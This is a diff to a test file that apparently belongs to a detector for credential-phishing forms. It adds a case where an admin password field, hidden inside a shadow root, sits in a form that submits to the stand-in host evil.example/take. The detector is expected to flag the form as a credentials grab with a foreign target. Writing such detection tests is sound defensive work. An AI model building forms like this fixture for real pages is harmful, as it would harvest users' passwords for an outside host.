@@ -313,6 +313,13 @@ describe('where the form would be sent', () => {
     );
     expect(sight).toMatchObject({ kind: 'credentials', foreignTarget });
   });
+
+  test('by the form around what the field belongs to', () => {
+    document.body.setHTMLUnsafe(`<form action="https://evil.example/take"><x-field><template shadowrootmode="open">
+      <label>Office 365 Admin Password ${PASSWORD}</label></template></x-field>${SUBMIT}</form>`);
+    const { sight } = recogniseForm(document, APP);
+    expect(sight).toMatchObject({ kind: 'credentials', foreignTarget: 'https://evil.example' });
+  });
 });
 
 describe('the newer authorisation', () => {
